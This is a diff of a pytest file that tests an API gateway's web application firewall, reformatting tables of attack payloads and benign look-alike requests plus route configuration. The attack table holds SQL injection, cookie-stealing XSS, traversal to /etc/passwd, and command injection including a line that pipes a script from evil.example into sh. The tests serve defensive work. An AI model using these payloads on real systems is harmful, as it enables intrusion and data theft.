@@ -5,37 +5,78 @@ import json
 import urllib.parse
 
 import pytest
-
 from helpers import audit_lines, raw_request, run_gateway
 
 ATTACKS = [
     ("sqli query", "GET", "/search?q=" + urllib.parse.quote("1' OR '1'='1"), {}, None),
     ("sqli union", "GET", "/search?q=" + urllib.parse.quote("1 UNION SELECT password FROM users--"), {}, None),
-    ("sqli json body", "POST", "/api/items", {"Content-Type": "application/json"},
-     json.dumps({"name": "x", "filter": "1' OR 1=1 --"}).encode()),
+    (
+        "sqli json body",
+        "POST",
+        "/api/items",
+        {"Content-Type": "application/json"},
+        json.dumps({"name": "x", "filter": "1' OR 1=1 --"}).encode(),
+    ),
     ("xss query", "GET", "/page?msg=" + urllib.parse.quote("<script>alert(document.cookie)</script>"), {}, None),
-    ("xss body", "POST", "/api/comments", {"Content-Type": "application/json"},
-     json.dumps({"text": "<img src=x onerror=alert(1)>"}).encode()),
+    (
+        "xss body",
+        "POST",
+        "/api/comments",
+        {"Content-Type": "application/json"},
+        json.dumps({"text": "<img src=x onerror=alert(1)>"}).encode(),
+    ),
     ("traversal query", "GET", "/files?name=" + urllib.parse.quote("../../../../etc/passwd"), {}, None),
     ("command injection", "GET", "/ping?host=" + urllib.parse.quote("8.8.8.8; cat /etc/passwd"), {}, None),
-    ("command injection body", "POST", "/api/run", {"Content-Type": "application/x-www-form-urlencoded"},
-     b"cmd=" + urllib.parse.quote_plus("$(curl http://evil.example/x.sh | sh)").encode()),
+    (
+        "command injection body",
+        "POST",
+        "/api/run",
+        {"Content-Type": "application/x-www-form-urlencoded"},
+        b"cmd=" + urllib.parse.quote_plus("$(curl http://evil.example/x.sh | sh)").encode(),
+    ),
     ("xss header", "GET", "/x", {"Referer": "javascript:alert(1)//<script>alert(1)</script>"}, None),
-    ("php injection", "GET", "/x?file=" + urllib.parse.quote("php://filter/convert.base64-encode/resource=index.php"), {}, None),
+    (
+        "php injection",
+        "GET",
+        "/x?file=" + urllib.parse.quote("php://filter/convert.base64-encode/resource=index.php"),
+        {},
+        None,
+    ),
 ]
 
 BENIGN = [
     ("apostrophe name", "GET", "/search?q=" + urllib.parse.quote("O'Reilly books"), {}, None),
-    ("sql words in prose", "POST", "/api/comments", {"Content-Type": "application/json"},
-     json.dumps({"text": "Please select a plan and update your order from the menu"}).encode()),
+    (
+        "sql words in prose",
+        "POST",
+        "/api/comments",
+        {"Content-Type": "application/json"},
+        json.dumps({"text": "Please select a plan and update your order from the menu"}).encode(),
+    ),
     ("math", "GET", "/calc?expr=" + urllib.parse.quote("1+1=2"), {}, None),
-    ("heart", "POST", "/api/comments", {"Content-Type": "application/json"}, json.dumps({"text": "I <3 this"}).encode()),
+    (
+        "heart",
+        "POST",
+        "/api/comments",
+        {"Content-Type": "application/json"},
+        json.dumps({"text": "I <3 this"}).encode(),
+    ),
     ("email", "GET", "/users?email=" + urllib.parse.quote("alice@example.com"), {}, None),
     ("dotted version", "GET", "/download?version=1.2.3&file=report.pdf", {}, None),
-    ("semicolon text", "POST", "/api/notes", {"Content-Type": "application/json"},
-     json.dumps({"note": "Buy milk; call Bob; pay rent"}).encode()),
-    ("json numbers", "POST", "/api/items", {"Content-Type": "application/json"},
-     json.dumps({"name": "chair", "price": 49.5, "tags": ["wood", "brown"]}).encode()),
+    (
+        "semicolon text",
+        "POST",
+        "/api/notes",
+        {"Content-Type": "application/json"},
+        json.dumps({"note": "Buy milk; call Bob; pay rent"}).encode(),
+    ),
+    (
+        "json numbers",
+        "POST",
+        "/api/items",
+        {"Content-Type": "application/json"},
+        json.dumps({"name": "chair", "price": 49.5, "tags": ["wood", "brown"]}).encode(),
+    ),
     ("url param", "GET", "/redirect?next=" + urllib.parse.quote("/dashboard?tab=settings"), {}, None),
     ("hyphens and quotes", "GET", "/search?q=" + urllib.parse.quote('"state-of-the-art" widgets'), {}, None),
 ]
@@ -47,20 +88,29 @@ def waf_gateway(tmp_path_factory, upstream):
     config = {
         "upstreams": {"up": {"urls": [upstream.url]}},
         "policies": {"audit": {"output": str(tmp / "audit.log")}, "waf": {"mode": "block"}},
-        "routes": [{"path": "/*", "upstream": "up"},
-                   {"path": "/detect/*", "upstream": "up", "policies": {"waf": {"mode": "detect"}}},
-                   {"path": "/tuned/*", "upstream": "up", "policies": {"waf": {"exclude_rules": [932110]}}},
-                   # test_waf_bodies.py: GraphQL query text trips 932100/942190 at PL1 (docs/waf.md)
-                   {"path": "/graphql", "upstream": "up",
-                    "policies": {"waf": {"exclude_rules": [932100, 942190]}, "graphql": {}}},
-                   {"path": "/strict/*", "upstream": "up", "policies": {"waf": {"untyped_bodies": "refuse"}}},
-                   {"path": "/withfiles/*", "upstream": "up", "policies": {"waf": {"inspect_files": True}}},
-                   # CRS's content-type and charset policy off (920420, 920480): only body inspection
-                   # stands between a payload and the upstream
-                   {"path": "/open/*", "upstream": "up", "policies": {"waf": {"exclude_rules": [920420, 920480]}}},
-                   {"path": "/uploads/*", "upstream": "up",
-                    "policies": {"waf": {"uninspected_types": ["image/png"],
-                                         "content_types": ["multipart/form-data", "image/png"]}}}],
+        "routes": [
+            {"path": "/*", "upstream": "up"},
+            {"path": "/detect/*", "upstream": "up", "policies": {"waf": {"mode": "detect"}}},
+            {"path": "/tuned/*", "upstream": "up", "policies": {"waf": {"exclude_rules": [932110]}}},
+            # test_waf_bodies.py: GraphQL query text trips 932100/942190 at PL1 (docs/waf.md)
+            {
+                "path": "/graphql",
+                "upstream": "up",
+                "policies": {"waf": {"exclude_rules": [932100, 942190]}, "graphql": {}},
+            },
+            {"path": "/strict/*", "upstream": "up", "policies": {"waf": {"untyped_bodies": "refuse"}}},
+            {"path": "/withfiles/*", "upstream": "up", "policies": {"waf": {"inspect_files": True}}},
+            # CRS's content-type and charset policy off (920420, 920480): only body inspection
+            # stands between a payload and the upstream
+            {"path": "/open/*", "upstream": "up", "policies": {"waf": {"exclude_rules": [920420, 920480]}}},
+            {
+                "path": "/uploads/*",
+                "upstream": "up",
+                "policies": {
+                    "waf": {"uninspected_types": ["image/png"], "content_types": ["multipart/form-data", "image/png"]}
+                },
+            },
+        ],
     }
     with run_gateway(config, tmp) as g:
         yield g, tmp
@@ -83,8 +133,11 @@ def test_classic_payloads_are_blocked(waf_gateway, name, method, target, headers
 
 def test_benign_look_alikes_pass_and_false_positive_rate(waf_gateway):
     g, _ = waf_gateway
-    refused = [name for name, method, target, headers, body in BENIGN
-               if _send(g.port, method, target, headers, body).status != 200]
+    refused = [
+        name
+        for name, method, target, headers, body in BENIGN
+        if _send(g.port, method, target, headers, body).status != 200
+    ]
     rate = len(refused) / len(BENIGN)
     print(f"\nWAF false positives at paranoia 1: {len(refused)}/{len(BENIGN)} ({rate:.0%}) {refused}")
     # the one known false positive of CRS 3.3.4 at PL1 on this table: "…; call Bob" reads as a
